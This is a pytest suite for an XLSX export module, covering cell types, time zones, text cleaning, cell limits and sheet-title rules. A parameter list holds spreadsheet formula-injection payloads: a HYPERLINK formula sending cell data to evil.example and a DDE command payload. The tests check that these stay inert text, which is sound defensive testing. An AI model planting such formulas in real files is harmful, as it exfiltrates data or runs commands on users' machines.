"""reports/export.py: what a spreadsheet program finds in the file, read back with openpyxl and from
the XML itself."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime, time, timezone
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from openpyxl.worksheet import _writer

from reports.export import (
    CELL_LIMIT,
    DATE,
    DATETIME,
    MONEY,
    PERCENT,
    Sheet,
    clean_text,
    sheet_titles,
    xlsx,
)

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _book(data: bytes):
    return load_workbook(io.BytesIO(data))


def _sheet_xml(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]


def _one_column(values: list) -> bytes:
    return xlsx([Sheet("Data", ["Value"], [[value] for value in values])])


def test_values_keep_their_types_and_formats() -> None:
    nine_in_moscow = datetime(2025, 3, 3, 6, 0, tzinfo=timezone.utc)
    midnight_after = datetime(2025, 3, 3, 21, 0, tzinfo=timezone.utc)
    headers = ["Manager", "Meetings", "Revenue, ₽", "Conversion", "Day", "Last contact", "Note", "Won"]
    data = xlsx(
        [
            Sheet(
                title="Team",
                headers=headers,
                rows=[
                    ["Анна", 12, Decimal("150000.50"), 0.25, date(2025, 3, 3), nine_in_moscow, None, True],
                    ["Борис", 0, Decimal("-20.10"), 0.0625, date(2024, 12, 31), midnight_after, "ок", False],
                ],
                number_formats={2: MONEY, 3: PERCENT},
            )
        ],
        tz="Europe/Moscow",
    )
    ws = _book(data)["Team"]
    rows = [[cell for cell in row] for row in ws.iter_rows()]
    assert [c.value for c in rows[0]] == headers
    assert all(c.font.b for c in rows[0]) and not any(c.font.b for c in rows[1])
    assert ws.freeze_panes == "A2"

    anna, boris = rows[1], rows[2]
    assert [c.value for c in anna] == [
        "Анна", 12, 150000.5, 0.25, datetime(2025, 3, 3), datetime(2025, 3, 3, 9, 0), None, True
    ]
    assert [c.value for c in boris] == [
        "Борис", 0, -20.1, 0.0625, datetime(2024, 12, 31), datetime(2025, 3, 4, 0, 0), "ок", False
    ]
    assert [c.data_type for c in anna] == ["s", "n", "n", "n", "d", "d", "n", "b"]
    for row in (anna, boris):  # each row's cells carry their column's format, not the previous row's
        assert [c.number_format for c in row[2:6]] == [MONEY, PERCENT, DATE, DATETIME]
        assert row[4].is_date and row[5].is_date
    assert (anna[1].number_format, anna[0].number_format) == ("General", "General")


def test_an_explicit_format_applies_to_dates_too() -> None:
    ws = _book(xlsx([Sheet("D", ["Month"], [[date(2025, 3, 1)]], {0: "mmmm yyyy"})]))["D"]
    assert ws["A2"].number_format == "mmmm yyyy" and ws["A2"].value == datetime(2025, 3, 1)


def test_datetimes_need_a_zone_and_an_aware_value() -> None:
    aware = datetime(2025, 3, 3, 6, 0, tzinfo=timezone.utc)
    ws = _book(xlsx([Sheet("T", ["At"], [[aware]])], tz="Asia/Vladivostok"))["T"]
    assert ws["A2"].value == datetime(2025, 3, 3, 16, 0)
    with pytest.raises(ValueError, match="tz"):
        xlsx([Sheet("T", ["At"], [[aware]])])
    with pytest.raises(TypeError, match="naive"):
        xlsx([Sheet("T", ["At"], [[datetime(2025, 3, 3, 6, 0)]])], tz="Europe/Moscow")


def test_numbers_excel_cannot_store_are_left_empty() -> None:
    values = [float("nan"), float("inf"), Decimal("NaN"), Decimal("-Infinity"), Decimal("sNaN"), 1]
    ws = _book(_one_column(values))["Data"]
    assert [row[0].value for row in ws.iter_rows(min_row=2)] == [None, None, None, None, None, 1]


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+7 999 123-45-67",
    "-1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_text_stays_quote_prefixed_text(text: str) -> None:
    data = xlsx([Sheet("Data", [text], [[text], [text]])])
    ws = _book(data)["Data"]
    for cell in (ws["A1"], ws["A2"], ws["A3"]):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    for xml in _sheet_xml(data):
        root = ElementTree.fromstring(xml)
        assert root.findall(f".//{MAIN}f") == []
        assert {c.get("t") for c in root.iter(f"{MAIN}c")} == {"inlineStr"}


def test_a_leading_carriage_return_becomes_a_line_break_and_stays_text() -> None:
    ws = _book(_one_column(["\r=1+1", "\r\n@x"]))["Data"]
    assert [(c.value, c.data_type, c.quotePrefix) for c in (ws["A2"], ws["A3"])] == [
        ("\n=1+1", "s", True),
        ("\n@x", "s", True),
    ]


def test_error_codes_from_users_are_text_not_errors() -> None:
    data = _one_column(["#N/A", "#DIV/0!", "#REF!"])
    ws = _book(data)["Data"]
    assert [(c.value, c.data_type) for c in ws["A"][1:]] == [("#N/A", "s"), ("#DIV/0!", "s"), ("#REF!", "s")]
    assert 't="e"' not in _sheet_xml(data)[0]


def test_ordinary_text_is_not_quote_prefixed() -> None:
    ws = _book(_one_column(["Анна", "a-b", "1+1", " =x"]))["Data"]
    assert [(c.value, c.quotePrefix) for c in ws["A"][1:]] == [
        ("Анна", False), ("a-b", False), ("1+1", False), (" =x", False)
    ]


def test_characters_xml_cannot_hold_are_removed() -> None:
    dirty = "a\x00b\x07c\x0bd\x1fe\ud800f\ufffeg\uffffh"
    data = xlsx([Sheet("Bad\x01name", ["Head\x02er"], [[dirty], ["tab\tand\nline"], ["cr\r\nlf\rend"]])])
    wb = _book(data)
    ws = wb["Badname"]
    assert [c.value for c in ws["A"]] == ["Header", "abcdefgh", "tab\tand\nline", "cr\nlf\nend"]
    assert clean_text("ok\x08") == "ok"


def test_text_that_reads_as_an_ooxml_escape_stays_literal() -> None:
    data = _one_column(["_x0041_ and _x000D_"])
    assert "_x005F_x0041_ and _x005F_x000D_" in _sheet_xml(data)[0]
    # openpyxl does not decode these escapes, Excel does: decoded, the text is what was given.
    assert unescape(_book(data)["Data"]["A2"].value) == "_x0041_ and _x000D_"


def test_long_text_is_cut_to_the_cell_limit_with_an_ellipsis() -> None:
    exact = "a" * CELL_LIMIT
    long = "b" * (CELL_LIMIT + 10)
    emoji = "a" + "😀" * 20_000  # two UTF-16 units each, which is what Excel counts
    ws = _book(_one_column([exact, long, emoji]))["Data"]
    assert ws["A2"].value == exact
    assert ws["A3"].value == "b" * (CELL_LIMIT - 1) + "…"
    cut = ws["A4"].value
    assert cut.endswith("…") and set(cut[1:-1]) == {"😀"}
    assert len(cut.encode("utf-16-le")) // 2 == CELL_LIMIT - 1  # a whole emoji did not fit beside the ellipsis
    assert clean_text("abcdef", limit=4) == "abc…"


def test_sheet_titles_follow_excels_rules() -> None:
    titles = sheet_titles(
        ["A/B: [x]*?", "x" * 40, "x" * 40, "Plan", "plan", "PLAN", "'quoted'", "", "  ", "History", "Отчёт" * 10]
    )
    assert titles == [
        "A-B- (x)",
        "x" * 31,
        "x" * 27 + " (2)",
        "Plan",
        "plan (2)",
        "PLAN (3)",
        "quoted",
        "Sheet",
        "Sheet (2)",
        "History (2)",
        ("Отчёт" * 10)[:31],
    ]
    for title in titles:
        assert len(title) <= 31 and not re.search(r"[\[\]:*?/\\]", title)
    assert len({t.casefold() for t in titles}) == len(titles)

    given = ["A/B: [x]*?", "x" * 40, "x" * 40, "Plan", "plan", "History"]
    data = xlsx([Sheet(title, ["h"], [[1]]) for title in given])
    assert _book(data).sheetnames == ["A-B- (x)", "x" * 31, "x" * 27 + " (2)", "Plan", "plan (2)", "History (2)"]


def test_column_widths_follow_the_content_within_bounds() -> None:
    rows = [[1, "z" * 500, Decimal("1234567.89")]]
    data = xlsx([Sheet("W", ["N", "Long text", "Revenue, ₽"], rows, {2: MONEY})])
    widths = _book(data)["W"].column_dimensions
    assert widths["A"].width == 6  # the minimum
    assert widths["B"].width == 60  # the maximum
    assert len("1,234,567.89") < widths["C"].width < 20


def test_bad_tables_are_refused() -> None:
    """Checked while streaming; a refused table leaves no temporary file behind."""
    temporary = set(_writer.ALL_TEMP_FILES)
    with pytest.raises(ValueError, match="at least one sheet"):
        xlsx([])
    with pytest.raises(ValueError, match="row 3: 1 values for 2 columns"):
        xlsx([Sheet("S", ["a", "b"], [[1, 2], [3]])])
    with pytest.raises(ValueError, match="number format"):
        xlsx([Sheet("S", ["a"], [[1]], {1: MONEY})])
    with pytest.raises(TypeError, match="time"):
        xlsx([Sheet("S", ["a"], [[1]]), Sheet("T", ["a"], [[time(9, 0)]])])
    assert set(_writer.ALL_TEMP_FILES) == temporary


def test_a_large_table_streams_from_a_generator() -> None:
    count = 10_000  # streamed: a generator of any length is read once, row by row
    rows = ((f"Client {i}", i, Decimal(i) / 100, date(2025, 1, 1 + i % 28)) for i in range(count))
    data = xlsx([Sheet("Big", ["Client", "N", "Revenue, ₽", "Day"], rows, {2: MONEY})])
    (xml,) = _sheet_xml(data)
    assert xml.count("<row ") == count + 1
    last = re.search(rf'<row r="{count + 1}">(.*?)</row>', xml).group(1)
    assert f"Client {count - 1}" in last and f"<v>{count - 1}</v>" in last
    # written with 16 significant digits: the same double as 99.99
    assert float(re.search(rf'<c r="C{count + 1}"[^>]*><v>([^<]+)</v>', last).group(1)) == 99.99
